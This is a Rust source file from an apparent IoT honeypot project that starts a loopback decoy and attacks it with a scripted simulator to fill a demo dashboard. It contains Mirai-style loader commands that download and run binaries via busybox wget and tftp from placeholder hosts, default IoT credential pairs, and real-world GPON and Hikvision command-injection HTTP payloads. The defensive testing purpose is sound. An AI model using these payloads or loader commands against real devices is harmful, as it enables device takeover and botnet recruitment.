//! The demo's decoy: `yamori decoy` on 127.0.0.1 and a scripted attacker in the binary that
//! does what IoT botnets do to it — Mirai-style telnet sessions from several bots, a bot that
//! guesses passwords over several sessions, and two known IoT exploit requests over HTTP —
//! so the dashboard's decoy page has real records to show.
//!
//! Nothing leaves the machine: each bot connects from its own loopback address (127.0.0.2 and
//! up; all of 127.0.0.0/8 is this host) to the decoy's loopback ports only, and the download
//! URLs it sends name TEST-NET hosts, which the decoy records and never contacts.
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Context;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use yamori_decoy::{profile, Config, Decoy, Limits, Protocol, Recorder};
use yamori_survey::proto::telnet::Decoder;

/// How long the attacker waits for any one answer of the decoy.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(10);

/// A Mirai-style bot: its loopback address, the pairs it tries, where its loader fetches from.
struct Bot {
    last_octet: u8,
    pairs: &'static [(&'static str, &'static str)],
    commands: &'static [&'static str],
}

/// The loader's commands as Mirai's runs them, with a dropper and a download.
const MIRAI_LOADER: &[&str] = &[
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "cat /proc/mounts; /bin/busybox ECCHI",
    "cd /tmp",
    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > /tmp/.d; /bin/busybox ECCHI",
    "/bin/busybox wget http://203.0.113.66/bins/mirai.arm7 -O /tmp/.m; /bin/busybox chmod 777 /tmp/.m; /tmp/.m telnet.arm7",
];

/// A later Mirai variant: tftp as well as wget.
const VARIANT_LOADER: &[&str] = &[
    "enable",
    "shell",
    "sh",
    "/bin/busybox SORA",
    "cat /proc/cpuinfo",
    "cd /var; /bin/busybox tftp -g -r sora.mips 198.51.100.23; /bin/busybox chmod 777 sora.mips; ./sora.mips",
    "/bin/busybox wget http://198.51.100.23/sora.sh -O- | sh",
];

const BOTS: &[Bot] = &[
    Bot {
        last_octet: 2,
        pairs: &[("root", "xc3511")],
        commands: MIRAI_LOADER,
    },
    Bot {
        last_octet: 3,
        pairs: &[("root", "xc3511")],
        commands: MIRAI_LOADER,
    },
    Bot {
        last_octet: 4,
        pairs: &[("admin", "hunter22"), ("root", "vizxv")],
        commands: MIRAI_LOADER,
    },
    Bot {
        last_octet: 5,
        pairs: &[("root", "888888")],
        commands: VARIANT_LOADER,
    },
];

/// The password guesser: one loopback address, sessions of two wrong pairs and a right one
/// (the decoy, like BusyBox's `login`, hangs up after three failures).
const GUESSER: u8 = 6;
const GUESSES: &[[(&str, &str); 3]] = &[
    [
        ("root", "password1"),
        ("root", "qwerty"),
        ("root", "default"),
    ],
    [
        ("admin", "letmein"),
        ("admin", "123123"),
        ("admin", "admin"),
    ],
    [
        ("support", "support1"),
        ("guest", "guest1"),
        ("guest", "guest"),
    ],
];

/// The HTTP bot: its address and two exploit requests (Dasan GPON, Hikvision).
const EXPLOITER: u8 = 7;

fn gpon_request() -> String {
    let body = "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=%60busybox+wget+http%3A%2F%2F198.51.100.23%2Fgpon+-O+%2Ftmp%2Fgaf%3Bsh+%2Ftmp%2Fgaf%60&ipv=0";
    format!(
        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Hello, World\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

fn hikvision_request() -> String {
    let body = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(wget http://203.0.113.66/hik.sh -O /tmp/h)</language>";
    format!(
        "PUT /SDK/webLanguage HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozila/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

/// What the attacker ran, for the demo's output.
#[derive(Debug, Default)]
pub struct Attacked {
    pub telnet_sessions: u32,
    pub http_requests: u32,
}

/// Run a decoy on loopback, attack it, stop it, store its records (through the same queue and
/// writer as `yamori decoy`) and its events file in `dir`. Returns what was run and how many
/// records were stored.
pub fn run(g: &crate::GlobalArgs, dir: &Path) -> anyhow::Result<(Attacked, u64)> {
    let events = dir.join("decoy-events.jsonl");
    // A fresh file per demo run: the store keeps every run's records, the file this one's.
    let _ = std::fs::remove_file(&events);
    let recorder = Recorder::append_to(&events)
        .with_context(|| format!("opening the events file {}", events.display()))?;
    let store = super::open_store(g)?;
    let (recorder, queue) = recorder.with_tap(super::decoy::STORE_QUEUE);
    let writer = std::thread::Builder::new()
        .name("decoy-store".into())
        .spawn(move || super::decoy::store_records(&store, &queue))
        .context("starting the database writer")?;
    let loopback = SocketAddr::from((Ipv4Addr::LOCALHOST, 0));
    let config = Config {
        listen_telnet: loopback,
        listen_http: Some(loopback),
        listen_mqtt: None,
        profile: &profile::DVR,
        sensor: "yamori-demo-decoy".into(),
        limits: Limits::default(),
    };
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .context("starting the decoy's runtime")?;
    let attacked = rt.block_on(async {
        let decoy = Decoy::bind(config, Arc::new(recorder))
            .await
            .context("starting the decoy on 127.0.0.1")?;
        let addrs = decoy.addrs().context("the decoy's addresses")?;
        let port = |p: Protocol| {
            addrs
                .iter()
                .find(|(q, _)| *q == p)
                .map(|(_, a)| *a)
                .with_context(|| format!("the decoy has no {} listener", p.name()))
        };
        let (telnet, http) = (port(Protocol::Telnet)?, port(Protocol::Http)?);
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let server = tokio::spawn(decoy.run(async {
            let _ = stopped.await;
        }));
        let attacked = attack(telnet, http).await;
        let _ = stop.send(());
        server.await.context("the decoy stopped abnormally")?;
        attacked
    })?;
    drop(rt);
    // The decoy has dropped the recorder, which ends the queue: the writer stores the rest.
    let stored = writer
        .join()
        .map_err(|_| anyhow::anyhow!("the database writer panicked"))??;
    Ok((attacked, stored))
}

async fn attack(telnet: SocketAddr, http: SocketAddr) -> anyhow::Result<Attacked> {
    let mut done = Attacked::default();
    for bot in BOTS {
        telnet_session(bot.last_octet, telnet, bot.pairs, bot.commands)
            .await
            .with_context(|| format!("the bot on 127.0.0.{}", bot.last_octet))?;
        done.telnet_sessions += 1;
    }
    for pairs in GUESSES {
        telnet_session(GUESSER, telnet, pairs, &["uname -a", "exit"])
            .await
            .with_context(|| format!("the password guesser on 127.0.0.{GUESSER}"))?;
        done.telnet_sessions += 1;
    }
    for request in [gpon_request(), hikvision_request()] {
        let mut s = connect_from(EXPLOITER, http).await?;
        s.write_all(request.as_bytes()).await?;
        let mut answer = Vec::new();
        tokio::time::timeout(ANSWER_TIMEOUT, s.read_to_end(&mut answer))
            .await
            .context("the HTTP decoy did not answer")??;
        anyhow::ensure!(
            answer.starts_with(b"HTTP/1.1 200"),
            "the HTTP decoy answered {:?}",
            String::from_utf8_lossy(&answer[..answer.len().min(40)])
        );
        done.http_requests += 1;
    }
    Ok(done)
}

/// A connection to `to` from 127.0.0.`last_octet`, or from 127.0.0.1 where the system has no
/// other loopback address (Linux answers for all of 127.0.0.0/8, not every system does).
async fn connect_from(last_octet: u8, to: SocketAddr) -> anyhow::Result<TcpStream> {
    let from = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(127, 0, 0, last_octet)), 0);
    let socket = TcpSocket::new_v4()?;
    if socket.bind(from).is_err() {
        socket
            .bind(SocketAddr::from((Ipv4Addr::LOCALHOST, 0)))
            .context("binding to 127.0.0.1")?;
    }
    socket
        .connect(to)
        .await
        .with_context(|| format!("connecting to the decoy at {to}"))
}

/// One telnet session: log in with the first pair that works, run `commands`, leave.
async fn telnet_session(
    last_octet: u8,
    to: SocketAddr,
    pairs: &[(&str, &str)],
    commands: &[&str],
) -> anyhow::Result<()> {
    let mut t = TelnetText::new(connect_from(last_octet, to).await?);
    t.expect(&["login: "]).await?;
    let mut logged_in = false;
    for (user, password) in pairs {
        t.line(user).await?;
        t.expect(&["Password: "]).await?;
        t.line(password).await?;
        if t.expect(&["# ", "login: "]).await? == 0 {
            logged_in = true;
            break;
        }
    }
    anyhow::ensure!(logged_in, "no pair of {pairs:?} logged in");
    for c in commands {
        t.line(c).await?;
        if *c == "exit" {
            // The decoy hangs up after recording the line: wait for that, so the decoy is
            // never stopped with a line still unread.
            return t.until_closed().await;
        }
        t.expect(&["# "]).await?;
    }
    Ok(())
}

/// The text a telnet server sends, its option commands skipped by the survey's streaming
/// decoder; its answers are dropped (the bots answer none, as Mirai answers none after its
/// first read).
struct TelnetText {
    stream: TcpStream,
    text: Vec<u8>,
    decoder: Decoder,
}

impl TelnetText {
    fn new(stream: TcpStream) -> Self {
        TelnetText {
            stream,
            text: Vec::new(),
            decoder: Decoder::default(),
        }
    }

    async fn line(&mut self, s: &str) -> anyhow::Result<()> {
        self.stream.write_all(format!("{s}\r\n").as_bytes()).await?;
        Ok(())
    }

    /// Read until one of `needles` is in the text; its index. The text up to it is consumed.
    async fn expect(&mut self, needles: &[&str]) -> anyhow::Result<usize> {
        let deadline = tokio::time::Instant::now() + ANSWER_TIMEOUT;
        loop {
            for (i, n) in needles.iter().enumerate() {
                if let Some(at) = find(&self.text, n.as_bytes()) {
                    self.text.drain(..at + n.len());
                    return Ok(i);
                }
            }
            let mut chunk = [0u8; 4096];
            let n = tokio::time::timeout_at(deadline, self.stream.read(&mut chunk))
                .await
                .with_context(|| format!("waiting for {needles:?}"))??;
            anyhow::ensure!(
                n > 0,
                "the decoy closed while the bot waited for {needles:?}"
            );
            let mut unanswered = Vec::new();
            self.decoder
                .feed(&chunk[..n], &mut self.text, &mut unanswered);
        }
    }

    /// Read until the decoy closes the connection.
    async fn until_closed(&mut self) -> anyhow::Result<()> {
        let mut chunk = [0u8; 4096];
        loop {
            let n = tokio::time::timeout(ANSWER_TIMEOUT, self.stream.read(&mut chunk))
                .await
                .context("waiting for the decoy to hang up")??;
            if n == 0 {
                return Ok(());
            }
        }
    }
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}
